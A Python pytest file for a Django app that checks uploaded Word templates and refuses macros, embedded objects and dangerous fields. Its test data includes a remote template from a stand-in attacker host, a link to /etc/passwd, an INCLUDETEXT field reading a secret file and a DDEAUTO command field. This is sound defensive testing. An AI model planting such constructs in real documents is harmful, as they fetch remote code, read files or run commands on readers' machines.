"""The programme's own Word paper: a plain .docx, and nothing that runs, fetches or hides."""

import io
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from programmes.models import History
from programmes.rules.refusal import Invalid, NotAllowed
from reports.actions import word_template as word_templates
from reports.models import Document, WordTemplate
from tests.reports.documents.test_word import letterhead, text_of

RELS = "word/_rels/document.xml.rels"
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(content=None, name=RELS, put=None, add=None):
    """The letterhead with one part changed by `put`, or with more parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content or letterhead())) as before, zipfile.ZipFile(made, "w") as after:
        for entry in before.namelist():
            part = before.read(entry)
            after.writestr(entry, put(part) if put and entry == name else part)
        for extra, part in (add or {}).items():
            after.writestr(extra, part)
    return made.getvalue()


def relation(kind, target, mode="External"):
    row = f'<Relationship Id="rX1" Type="{TYPE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return lambda part: part.replace(b"</Relationships>", row.encode() + b"</Relationships>")


def in_body(xml):
    return lambda part: part.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


def field(words):
    return in_body(f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>")


def macro_type(part):
    return part.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")


WRONG = {
    "macros": lambda: changed(add={"word/vbaProject.bin": b"macros"}),
    "a .docm that calls itself .docx": lambda: changed(name="[Content_Types].xml", put=macro_type),
    "an embedded object": lambda: changed(add={"word/embeddings/oleObject1.bin": b"object"}),
    "a relation to an object": lambda: changed(put=relation("oleObject", "x.bin", "Internal")),
    "another template": lambda: changed(put=relation("attachedTemplate", "http://evil.example/t.dotm")),
    "another document": lambda: changed(put=relation("subDocument", "file:///etc/passwd", "Internal")),
    "a picture from elsewhere": lambda: changed(put=relation("image", "http://evil.example/pixel.png")),
    "another format inside": lambda: changed(put=relation("aFChunk", "part.html", "Internal")),
    "a field that fetches": lambda: changed(name="word/document.xml", put=field("INCLUDETEXT c:/secret.txt")),
    "a field in pieces": lambda: changed(
        name="word/document.xml",
        put=in_body(
            "<w:p><w:r><w:instrText xml:space='preserve'>includ</w:instrText>"
            "<w:instrText>eText x</w:instrText></w:r></w:p>"
        ),
    ),
    "a field that runs": lambda: changed(name="word/document.xml", put=field("DDEAUTO cmd /k calc")),
    "a document type": lambda: changed(name="word/document.xml", put=lambda part: b"<!DOCTYPE x>" + part),
    "UTF-16": lambda: changed(put=lambda part: part.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
    "damaged XML": lambda: changed(name="word/document.xml", put=lambda part: part[:200]),
    "no Word inside": lambda: changed(name="word/document.xml", put=lambda part: b"<x/>"),
    "no zip": lambda: b"PK nonsense",
}


def upload(content, name="letterhead.docx"):
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize("what", WRONG)
def test_what_runs_fetches_or_hides_is_refused_in_a_sentence(programme, organiser, what):
    with pytest.raises(Invalid) as refused:
        word_templates.keep(programme=programme, file=upload(WRONG[what]()), by=organiser)
    assert refused.value.field == "file" and str(refused.value.sentence).endswith(".")
    assert not WordTemplate.objects.exists()


def test_a_file_of_another_kind_is_refused(programme, organiser):
    for name in ("paper.docm", "paper.dotx", "paper.doc", "paper.pdf"):
        with pytest.raises(Invalid):
            word_templates.keep(programme=programme, file=upload(letterhead(), name), by=organiser)


def test_a_link_to_a_web_page_is_harmless(programme, organiser):
    file = upload(changed(put=relation("hyperlink", "https://unep.example/")))
    assert word_templates.keep(programme=programme, file=file, by=organiser).upload.name == "letterhead.docx"


def test_the_second_file_takes_the_place_of_the_first_and_can_be_given_up(programme, organiser):
    first = word_templates.keep(programme=programme, file=upload(letterhead()), by=organiser)
    second = word_templates.keep(programme=programme, file=upload(letterhead(), "new.docx"), by=organiser)
    assert first.pk == second.pk and WordTemplate.objects.get().upload.name == "new.docx"
    word_templates.remove(programme=programme, by=organiser)
    assert not WordTemplate.objects.exists()
    assert History.objects.filter(act__startswith="word_templates.").count() == 3


def test_only_organisers_choose_it(programme, facilitator, stranger):
    for outsider in (facilitator, stranger):
        with pytest.raises(NotAllowed):
            word_templates.keep(programme=programme, file=upload(letterhead()), by=outsider)
        with pytest.raises(NotAllowed):
            word_templates.remove(programme=programme, by=outsider)


@pytest.fixture
def made(client_of, organiser, work):
    """made("participants_word", workshop) -> the .docx as the organiser's browser gets it."""

    def make(name, thing, **data):
        browser = client_of(organiser)
        asked = browser.post(reverse(name, args=[thing.code]), data)
        assert asked.status_code == 302, asked.content.decode()
        work()
        document = Document.objects.latest("pk")
        assert document.job.problem == ""
        response = browser.get(reverse("document_file", args=[document.code]))
        assert response["Content-Type"].endswith("wordprocessingml.document")
        assert response["Content-Disposition"].startswith("attachment") and ".docx" in response["Content-Disposition"]
        return b"".join(response.streaming_content)

    return make


def test_a_paper_carries_the_template_it_was_asked_with(made, programme, organiser, workshop, add_participant):
    add_participant("Hasan", "Noora")
    clean = made("participants_word", workshop)
    word_templates.keep(programme=programme, file=upload(letterhead()), by=organiser)
    ours = made("participants_word", workshop)
    assert clean != ours
    assert docx.Document(io.BytesIO(ours)).sections[0].header.paragraphs[0].text == "The Secretariat"
    assert "HASAN Noora" in text_of(ours)


def test_the_workshops_page_offers_word_to_whoever_may_have_the_pdf(
    client_of, organiser, make_actor, workshop, add_participant
):
    add_participant("Hasan", "Noora")
    url = reverse("workshop", args=[workshop.code])
    assert "List as Word" in client_of(organiser).get(url).content.decode()
    assert "List as Word" not in client_of(make_actor("assessor")).get(url).content.decode()


def test_an_officer_without_a_name_is_never_printed_in_word(made, workshop, by, add_participant):
    from workshops.actions import participation as participations

    add_participant("Hasan", "Noora")
    participations.add(workshop=workshop, listed_as="Police officer, Thailand", by=by)
    found = text_of(made("participants_word", workshop))
    assert "Police officer" not in found and "1 officer is counted without a name." in found


def test_letters_in_word_hold_the_words_of_the_page(made, workshop, add_participant):
    one = add_participant("Hasan", "Noora", state="to_invite")
    data = {"kind": "invitation", "language": "en", "to": [one.code], f"subject-{one.code}": "Come",
            f"body-{one.code}": "Words changed by hand"}  # fmt: skip
    assert "Words changed by hand" in text_of(made("letters_word", workshop, **data))


def test_the_same_words_in_pdf_and_in_word_are_two_papers(client_of, organiser, workshop, add_participant):
    add_participant("Hasan", "Noora")
    browser = client_of(organiser)
    for name in ("participant_list", "participants_word"):
        browser.post(reverse(name, args=[workshop.code]))
        browser.post(reverse(name, args=[workshop.code]))
    assert sorted(Document.objects.values_list("format", flat=True)) == ["docx", "pdf"]


def test_the_page_takes_a_file_refuses_one_and_gives_it_back(client_of, organiser, stranger, programme):
    browser, url = client_of(organiser), reverse("programme_word_template", args=[programme.slug])
    refused = browser.post(url, {"file": upload(WRONG["macros"]())})
    assert refused.status_code == 422 and "macros" in refused.content.decode()
    assert browser.post(url, {"file": upload(letterhead())}).status_code == 302
    assert "letterhead.docx" in browser.get(url).content.decode()
    assert "letterhead.docx" in browser.get(reverse("programme", args=[programme.slug])).content.decode()
    kept = browser.get(reverse("programme_word_template_file", args=[programme.slug]))
    assert "letterhead.docx" in kept["Content-Disposition"] and b"".join(kept.streaming_content).startswith(b"PK")
    assert client_of(stranger).get(url).status_code == 404
    assert browser.post(reverse("programme_word_template_removal", args=[programme.slug])).status_code == 302
    assert not WordTemplate.objects.exists()
